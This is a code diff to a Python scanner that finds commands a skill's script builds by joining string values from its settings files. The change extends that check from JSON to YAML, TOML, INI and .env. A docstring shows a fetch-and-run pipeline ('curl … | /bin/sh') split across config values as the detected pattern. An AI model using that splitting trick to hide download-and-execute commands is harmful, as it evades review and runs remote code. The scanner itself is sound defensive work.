@@ -1673,13 +1673,14 @@ class Scanner:
         return out
 
     def config_commands(self, files: dict[str, bytes], found: list[Finding], description: str = "") -> list[Finding]:
-        """A command a script builds from the values of a JSON file of its skill: ``{"fetch": ["curl",
+        """A command a script builds from the values of a settings file of its skill (JSON, and YAML,
+        TOML, INI and .env read by their lines' values, ``_config_file``): ``{"fetch": ["curl",
         "-fsSL"], "base": "https://…", "file": "/run.sh", "via": ["|", "/bin/sh"]}`` joined by
         ``" ".join(c["fetch"] + [c["base"] + c["file"]] + c["via"])`` is ``curl -fsSL https://…/run.sh |
         /bin/sh``, which no line of either file holds. The string values of each JSON file a script of
         the skill names (not its keys), in order, joined by blanks, are read as a script; what the rules
         find there that they did not find in the file itself is reported on the file's first value."""
-        if not any(path.lower().endswith(".json") for path in files):
+        if not any(_config_file(path) for path in files):
             return []
         scripts = [data.decode("utf-8", errors="replace") for path, data in files.items()
                    if len(data) <= DATA_LIST_MAX * 8 and classify(path, data[:8192], False) == "script"]
@@ -1687,16 +1688,21 @@ class Scanner:
             return []
         out = []
         for path, data in files.items():
-            if not path.lower().endswith(".json") or len(data) > DATA_LIST_MAX:
+            if not _config_file(path) or len(data) > DATA_LIST_MAX:
                 continue
             name = posixpath.basename(path)
             if not any(name in text for text in scripts):
                 continue
             text = data.decode("utf-8", errors="replace")
-            values = [m for m in JSON_VALUE_RE.finditer(text) if m.group(1).strip()]
+            if path.lower().endswith(".json"):
+                values = [m for m in JSON_VALUE_RE.finditer(text) if m.group(1).strip()]
+                joined = " ".join(m.group(1).replace('\\"', '"').replace("\\/", "/") for m in values)
+            else:  # YAML, TOML, INI, .env: each line's value (after "key:" or "key =", or a list's "- ")
+                values = [m for m in CONFIG_VALUE_RE.finditer(text) if m.group(1).strip()
+                          and not BLOCK_KEY_RE.fullmatch(m.group(1))]
+                joined = " ".join(_config_value(m.group(1)) for m in values)
             if len(values) < 2:
                 continue
-            joined = " ".join(m.group(1).replace('\\"', '"').replace("\\/", "/") for m in values)
             seen = {f.rule for f in found if f.file == path and f.grades}
             line = text.count("\n", 0, values[0].start()) + 1
             lines = text.split("\n")
@@ -2681,6 +2687,31 @@ B64_ENTRY_RE = re.compile(r"(?<![\w+/=.~-])[A-Za-z0-9+/]{8,400}={0,2}(?![\w+/=.-
 
 # A JSON string that is a value (after "[", ",", ":" and before ",", "]", "}"), not a key
 JSON_VALUE_RE = re.compile(r'(?<=[\[,:])\s*"((?:[^"\\\n]|\\.){0,2000})"(?=\s*[,\]}])')
+
+
+# The settings files whose values a script may read and join: JSON, YAML, TOML, INI, .env
+CONFIG_SUFFIXES = (".json", ".yaml", ".yml", ".toml", ".ini", ".cfg", ".conf", ".env", "rc")
+# A value of a YAML, TOML, INI or .env line: after "key:" / "key =" / "KEY=" / "- " (not a section
+# header, a comment or a key opening a block)
+CONFIG_VALUE_RE = re.compile(r"^[ \t]*(?:-[ \t]+)?(?:(?:export[ \t]+)?[\w.\"'-]{1,80}[ \t]*[:=](?!:)[ \t]*)?"
+                             r"((?![#;\[])[^\n]{1,2000}?)[ \t]*(?:[ \t]#[^\n]*)?$", re.M)
+
+
+BLOCK_KEY_RE = re.compile(r"[\w.\"'-]{1,80}[ \t]*:[ \t]*")  # "reporter:", a key opening a block
+
+
+def _config_file(path: str) -> bool:
+    """A settings file of the skill by its name (config.yaml, settings.toml, .env, .flakerc)."""
+    low = posixpath.basename(path.lower())
+    return low.endswith(CONFIG_SUFFIXES) and (low.endswith(CONFIG_SUFFIXES[:-1]) or low.startswith("."))
+
+
+def _config_value(v: str) -> str:
+    """A YAML/TOML/INI value as a program gets it: its quotes taken off."""
+    v = v.strip().rstrip(",")
+    if len(v) >= 2 and v[0] == v[-1] and v[0] in "\"'":
+        v = v[1:-1]
+    return v
 
 
 def _b64_entries(text: str) -> str:
